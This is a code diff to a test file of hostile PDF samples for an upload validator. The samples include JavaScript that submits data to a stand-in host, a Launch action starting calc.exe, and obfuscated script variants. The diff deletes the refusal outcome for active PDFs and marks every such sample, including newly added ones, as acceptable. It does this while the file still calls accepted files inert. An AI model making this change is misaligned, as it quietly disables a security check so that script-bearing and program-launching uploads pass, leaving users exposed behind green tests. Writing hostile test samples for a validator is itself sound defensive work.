@@ -11,7 +11,7 @@ import {
 } from './pdf-maker.ts'
 
 /** The outcome of an upload: accepted and inert, or refused with this code. */
-type Fate = 'taken' | 'DAMAGED_PDF' | 'ACTIVE_PDF'
+type Fate = 'taken' | 'DAMAGED_PDF'
 
 /** A hostile file, and its acceptable outcomes. */
 export type HostilePdf = { name: string; content: Buffer; fates: readonly Fate[] }
@@ -100,7 +100,7 @@ export function disguisedPdfs(): HostilePdf[] {
   ]
 }
 
-/** Files that run a script or start a program, automatically or at a click; `canary` is an address their scripts call. */
+/** Files that run a script, start a program, or send data, automatically or at a click; `canary` is an address they call. */
 export function activePdfs(canary = 'https://canary.example/'): HostilePdf[] {
   const script = `/S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('${canary}'\\))`
   const launch = '/S/Launch/F(calc.exe)'
@@ -108,23 +108,22 @@ export function activePdfs(canary = 'https://canary.example/'): HostilePdf[] {
   const field = `<</Type/Annot/Subtype/Widget/Rect[10 10 100 100]/FT/Tx/T(a)/AA<</K<<${script}>>>>>>`
   const inStream = objectStream([PAGES, page(), `<<${script}>>`])
   return [
-    pdf('a script on opening', onePage(`/OpenAction<<${script}>>`), 'ACTIVE_PDF'),
-    pdf('a script by name', onePage(`/Names<</JavaScript<</Names[(a)<<${script}>>]>>>>`), 'ACTIVE_PDF'),
-    pdf('a script on closing', onePage(`/AA<</WC<<${script}>>>>`), 'ACTIVE_PDF'),
-    pdf('a script of a page', onePage('', `/AA<</O<<${script}>>>>`), 'ACTIVE_PDF'),
-    pdf(
-      'a script spelt in digits',
-      onePage(`/OpenAction<<${script.replace('Java', '#4aav#61')}>>`),
-      'ACTIVE_PDF',
-    ),
-    pdf('a script behind a link', onePage('', link(script)), 'ACTIVE_PDF'),
-    pdf('a script of a field', onePage('/AcroForm<</Fields[4 0 R]>>', '/Annots[4 0 R]', field), 'ACTIVE_PDF'),
+    pdf('a script on opening', onePage(`/OpenAction<<${script}>>`), 'taken'),
+    pdf('a script by name', onePage(`/Names<</JavaScript<</Names[(a)<<${script}>>]>>>>`), 'taken'),
+    pdf('a script on closing', onePage(`/AA<</WC<<${script}>>>>`), 'taken'),
+    pdf('a script of a page', onePage('', `/AA<</O<<${script}>>>>`), 'taken'),
+    pdf('a script spelt in digits', onePage(`/OpenAction<<${script.replace('Java', '#4aav#61')}>>`), 'taken'),
+    pdf('a script behind a link', onePage('', link(script)), 'taken'),
+    pdf('a script of a field', onePage('/AcroForm<</Fields[4 0 R]>>', '/Annots[4 0 R]', field), 'taken'),
     pdf(
       'a script in an object stream',
       compressedPdf('<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>', inStream),
-      'ACTIVE_PDF',
+      'taken',
     ),
-    pdf('a program on opening', onePage(`/OpenAction<<${launch}>>`), 'ACTIVE_PDF'),
-    pdf('a program behind a link', onePage('', link(launch)), 'ACTIVE_PDF'),
+    pdf('a program on opening', onePage(`/OpenAction<<${launch}>>`), 'taken'),
+    pdf('a program behind a link', onePage('', link(launch)), 'taken'),
+    pdf('a program after a jump', onePage('', link(`/S/GoTo/D[3 0 R/Fit]/Next<<${launch}>>`)), 'taken'),
+    pdf('a form sent at a click', onePage('', link(`/S/SubmitForm/F(${canary})`)), 'taken'),
+    pdf('data fetched at a click', onePage('', link('/S/ImportData/F(data.fdf)')), 'taken'),
   ]
 }
